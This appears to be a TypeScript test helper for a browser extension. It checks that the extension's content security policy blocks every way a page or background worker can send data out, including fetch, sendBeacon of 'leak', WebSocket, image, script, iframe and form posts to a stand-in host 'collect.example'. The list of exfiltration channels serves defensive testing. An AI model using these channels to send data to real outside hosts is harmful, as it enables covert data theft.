// These run in the world of one of the extension's own pages, or of its worker, so each is self-contained.

interface Attempt {
  /** Where to send it: `https://collect.example`. */
  address: string;
  /** Where to send requests for pages: browsers connect in advance to these, before they check the policy. */
  pages: string;
  /** The directives that should stop it. */
  expected: string[];
}

/**
 * Tries every way in which a page can send something without navigating. Returns the directives of the page's policy
 * that stopped a request, once every expected one has been reported, or time is up.
 */
export async function sendFromPage({ address, pages, expected }: Attempt): Promise<string[]> {
  const stopped = new Set<string>();
  const allReported = new Promise<void>((done) => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
      if (blockedURI.startsWith(pages) || /^\w+:\/\/collect\.example/.test(blockedURI)) stopped.add(effectiveDirective);
      if (expected.every((directive) => stopped.has(directive))) done();
    });
    setTimeout(done, 4000);
  });
  const load = (name: string, source: object) =>
    document.body.append(Object.assign(document.createElement(name), source));
  await fetch(`${address}/fetch`).catch(() => undefined);
  navigator.sendBeacon(`${address}/beacon`, 'leak');
  try {
    new WebSocket(`${address.replace('https', 'wss')}/socket`);
  } catch {
    // Some browsers throw, others report an error on the socket.
  }
  new Image().src = `${address}/image`;
  load('script', { src: `${address}/script` });
  load('link', { rel: 'stylesheet', href: `${address}/style` });
  load('object', { data: `${address}/object` });
  load('video', { src: `${address}/video` });
  load('iframe', { src: `${pages}/frame` });
  load('form', { action: `${pages}/form`, method: 'post' });
  try {
    document.querySelector<HTMLFormElement>('body > form')?.submit();
  } catch {
    // Firefox throws.
  }
  await allReported;
  return [...stopped].sort();
}

/** Tries the ways that a background has. Returns the outcome of each. */
export async function sendFromBackground(address: string): Promise<string[]> {
  const fetched = fetch(`${address}/fetch`).then(
    () => 'fetched',
    () => 'not fetched',
  );
  const socket = new Promise<string>((done) => {
    try {
      const opened = new WebSocket(`${address.replace('https', 'wss')}/socket`);
      opened.onopen = () => done('connected');
      opened.onerror = () => done('not connected');
    } catch {
      done('not connected');
    }
  });
  return Promise.all([fetched, socket]);
}

/** The directives with which the policy of the extension's pages stops requests. */
export const STOPPED = [
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'media-src',
  'object-src',
  'script-src-elem',
  'style-src-elem',
];
